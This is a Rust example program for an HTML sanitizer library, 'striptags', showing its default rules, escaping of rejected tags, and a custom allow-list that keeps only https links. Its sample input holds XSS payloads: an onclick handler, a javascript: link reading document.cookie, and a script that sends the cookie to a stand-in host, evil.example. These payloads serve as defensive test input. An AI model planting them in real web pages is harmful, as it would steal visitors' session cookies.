//! Basic sanitizing example demonstrating the default rules and options

use striptags::rules::{AttributeRule, TagRule};
use striptags::{Sanitizer, SanitizerConfig};

const COMMENT: &str = r#"<div class="comment" data-id="7">
    <p onclick="steal()">Nice post! <b>Really</b> liked it.</p>
    <a href="javascript:alert(document.cookie)" title="profile">me</a>
    <script>fetch("//evil.example/?c=" + document.cookie)</script>
    <marquee>look at me</marquee>
</div>"#;

fn main() {
    println!("=== striptags - Basic Examples ===\n");

    // Example 1: Built-in allow-list
    example_1();

    // Example 2: Escaping rejected tags instead of dropping them
    example_2();

    // Example 3: Custom rules with a value predicate
    example_3();
}

fn show(title: &str, sanitizer: &Sanitizer) {
    println!("{title}");
    let clean = sanitizer.sanitize(COMMENT).expect("Sanitize failed");
    println!("Output HTML:");
    println!("{clean}");
    println!("---\n");
}

fn example_1() {
    println!("Input HTML:");
    println!("{COMMENT}\n");
    show("Example 1: Default rules", &Sanitizer::new());
}

fn example_2() {
    let sanitizer = Sanitizer::with_config(
        SanitizerConfig::builder()
            .escape_invalid_tags(true)
            .trim_whitespace(true)
            .build(),
    );
    show("Example 2: Escape invalid tags, trim whitespace", &sanitizer);
}

fn example_3() {
    let sanitizer = Sanitizer::with_config(
        SanitizerConfig::builder()
            .trim_whitespace(true)
            .valid_tags([
                ("p", TagRule::Allowed(true)),
                ("b", TagRule::Allowed(true)),
                (
                    "a",
                    TagRule::with_attrs([(
                        "href",
                        AttributeRule::deny_if(|v| !v.starts_with("https://")),
                    )]),
                ),
            ])
            .valid_attrs(["title"])
            .build(),
    );
    show("Example 3: Only p, b and https links", &sanitizer);
}
